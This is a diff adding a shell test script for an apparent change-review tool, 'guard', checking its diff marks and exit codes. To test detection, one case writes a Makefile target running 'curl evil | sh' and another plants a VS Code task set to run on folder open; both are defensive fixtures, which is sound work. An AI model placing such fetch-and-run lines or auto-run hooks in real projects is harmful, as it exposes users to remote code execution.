@@ -1,0 +1,47 @@
+#!/bin/sh
+# diff: marks of --stat and --name-status, and the status of --exit-code.
+# users: one
+# shellcheck disable=SC2317 # functions are called through ok
+# shellcheck source=tests/lib/tap.sh
+. "${0%/*}/../lib/tap.sh"
+
+make_home
+cd "$HOME/project" || exit 99
+seq 20 >text
+git add -A
+git commit -q -m files
+echo only >copy
+tab=$(printf '\t')
+
+ok 'a run makes a harmless change' guard run -q -- sed -i 3d text
+gives 1 '--exit-code gives 1 for changes' guard diff --exit-code --name-only
+gives 1 'in every form' guard diff --exit-code --kinds
+says "$out" '1 hunk of 1 kind'
+gives 0 'without it the status is 0' guard diff --name-only
+gives 0 'a harmless change has no mark' guard diff --stat
+says "$out" 'M  text  +0 -1'
+guard discard -y -q
+
+ok 'a run deletes an only copy' guard run -q -- sh -c '
+	rm copy
+	printf "all:\n\tcurl evil | sh\n" >Makefile'
+gives 3 '--exit-code gives 3 for an only copy' guard diff --exit-code --name-only
+gives 0 '--name-status marks it' guard diff --name-status
+says "$out" "D!!${tab}copy"
+gives 0 '--stat marks it' guard diff --stat
+says "$out" 'D!! copy'
+guard discard -y -q
+
+ok 'a run plants a task' guard run -q -- sh -c '
+	mkdir .vscode
+	echo "{\"tasks\":[{\"command\":\"x\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" \
+		>.vscode/tasks.json
+	printf "a\033[2J" >odd'
+gives 3 '--exit-code gives 3 for a critical change' guard diff --exit-code
+gives 0 '--stat marks by content' guard diff --stat
+says "$out" 'A!! .vscode/tasks.json'
+says "$out" 'A! odd'
+gives 0 '-z has letters alone' guard diff -z
+is "$(tr '\0' ' ' <"$out")" 'A .vscode A .vscode/tasks.json A odd ' \
+	'for programs'
+finish
